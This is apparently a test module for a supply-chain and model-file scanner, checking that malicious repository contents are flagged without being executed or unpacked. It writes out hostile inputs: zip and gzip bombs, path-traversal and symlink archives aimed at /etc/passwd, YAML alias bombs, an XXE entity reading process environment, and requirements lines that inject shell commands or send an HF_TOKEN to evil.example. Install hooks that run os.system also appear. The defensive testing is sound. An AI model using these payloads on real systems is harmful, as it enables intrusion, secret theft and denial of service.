"""Attacks by documents: bombs, escapes of requirements files, settings of the tools inside.

More of the same: ``tests/scan/test_bad_input.py`` (module shadowing, a bomb that kills its worker),
``tests/sbom/test_requirements.py`` (``-r``, ``-c``), ``tests/policy/test_load.py`` (aliases, depth).
"""

from __future__ import annotations

import gzip
import io
import lzma
import tarfile
import zipfile

from tests.attack.scene import Scene
from tests.scan.samples import BENIGN, EVIL


def nested_zip(depth: int) -> bytes:
    """A zip in a zip, and so on; the innermost holds a payload."""
    content, name = EVIL, "data.pkl"
    for level in range(depth):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(name, content)
        content, name = buffer.getvalue(), f"{level}.zip"
    return content


def overlapping_zip(count: int) -> bytes:
    """Many members of one compressed stream: the size of all is a multiple of what is there."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/0.pkl", b"\0" * (8 << 20))
        first = archive.filelist[0]
        for number in range(1, count):
            info = zipfile.ZipInfo(f"archive/{number}.pkl")
            info.compress_type, info.CRC = first.compress_type, first.CRC
            info.compress_size, info.file_size, info.header_offset = first.compress_size, first.file_size, 0
            archive.filelist.append(info)
            archive.NameToInfo[info.filename] = info
    return buffer.getvalue()


def escaping_archives() -> dict[str | bytes, bytes]:
    """Members that would be written elsewhere, or are links, were anything ever unpacked."""
    zipped, tarred = io.BytesIO(), io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        for name in ("../../escape.pkl", "/tmp/escape.pkl", "archive/data.pkl", "..\\escape.pkl"):
            archive.writestr(name, BENIGN)
        link = zipfile.ZipInfo("archive/link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    with tarfile.open(fileobj=tarred, mode="w") as tar:
        for name, kind, target in (
            ("../../escape.pkl", tarfile.REGTYPE, ""),
            ("link", tarfile.SYMTYPE, "/etc/passwd"),
            ("hard", tarfile.LNKTYPE, "../../../../etc/passwd"),
            ("device", tarfile.CHRTYPE, ""),
        ):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            tar.addfile(info, io.BytesIO())
    return {"escape.pt": zipped.getvalue(), "escape.tar": tarred.getvalue(), "escape.nemo": tarred.getvalue()}


def test_archives_that_grow_or_reach_out(scene: Scene) -> None:
    zeros = b"\0" * (32 << 20)
    scene.repo.commit(
        {
            "nested.pt": nested_zip(40),
            "overlap.pt": overlapping_zip(300),
            "bomb.pkl.gz": gzip.compress(zeros),
            "bomb.joblib": lzma.compress(zeros),
            "twice.pkl.gz": gzip.compress(gzip.compress(zeros)),
            **escaping_archives(),
            "m.pkl": EVIL,
        }
    )
    judged = scene.judge()
    assert judged.status == 1
    assert "pickle-dangerous-import" in judged.rules("m.pkl")
    for name in ("nested.pt", "overlap.pt"):
        assert judged.rules(name) or judged.artifact(name)["status"] == "incomplete", name
    assert not list(scene.folder.rglob("escape.pkl"))


BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{name}: &{name} [{','.join([f'*{before}'] * 9)}]\n"
    for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)


def test_documents_that_grow(scene: Scene) -> None:
    deep = b"[" * 50_000
    scene.repo.commit(
        {
            "pnpm-lock.yaml": f"lockfileVersion: '9.0'\n{BOMB}".encode(),
            "stack.yaml.lock": BOMB.encode(),
            "package-lock.json": b'{"lockfileVersion": 3, "packages": ' + deep,
            "Pipfile.lock": b'{"default": ' + deep,
            "poetry.lock": b"a = " + deep,
            "pom.xml": b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY s SYSTEM "file:///proc/self/environ">]>'
            b"<project><artifactId>&b;&s;</artifactId></project>",
            "requirements.txt": b"a==" + b"1" * 200_000 + b"\n" + b"-r " * 10_000,
            "config.json": deep,
            "model.safetensors": (8 + len(deep)).to_bytes(8, "little") + deep,
            "m.pkl": EVIL,
        }
    )
    judged = scene.judge()
    assert judged.status == 1
    assert judged.artifact("model.safetensors")["status"] == "incomplete" or judged.rules("model.safetensors")


def test_requirements_cannot_reach_out(scene: Scene) -> None:
    lines = [
        "-r ../secret.txt",
        f"-r {scene.secret}",
        f"-r file://{scene.secret}",
        "-c /proc/self/environ",
        "--constraint=../../../../proc/1/environ",
        "-r requirements.txt",
        "--index-url http://127.0.0.1:9/simple",
        "--find-links /",
        f"-e git+ext::sh -c '{scene.touch}'#egg=x",
        f"x @ file://{scene.secret}",
        f"-e {scene.folder}",
        "${GITHUB_TOKEN}==1",
        "https://evil.example/${HF_TOKEN}/x.whl",
        "requests==2.32.0",
    ]
    scene.repo.commit(
        {
            "requirements.txt": "\n".join(lines).encode(),
            "setup.py": f"import os\nos.system({scene.touch!r})\n".encode(),
            "setup.cfg": b"[metadata]\nname = attr: evil.name\n",
            "evil.py": f"import os\nos.system({scene.touch!r})\n".encode(),
            ".syft.yaml": b"exclude: ['**']\n",
            "pip.conf": b"[global]\nindex-url = http://127.0.0.1:9\n",
            "package.json": f'{{"scripts": {{"preinstall": "{scene.touch}"}}}}'.encode(),
            "model.py": EVIL,
        }
    )
    judged = scene.judge()
    assert judged.status == 1
    assert b"pkg:pypi/requests@2.32.0" in (judged.output / "sbom.cdx.json").read_bytes()
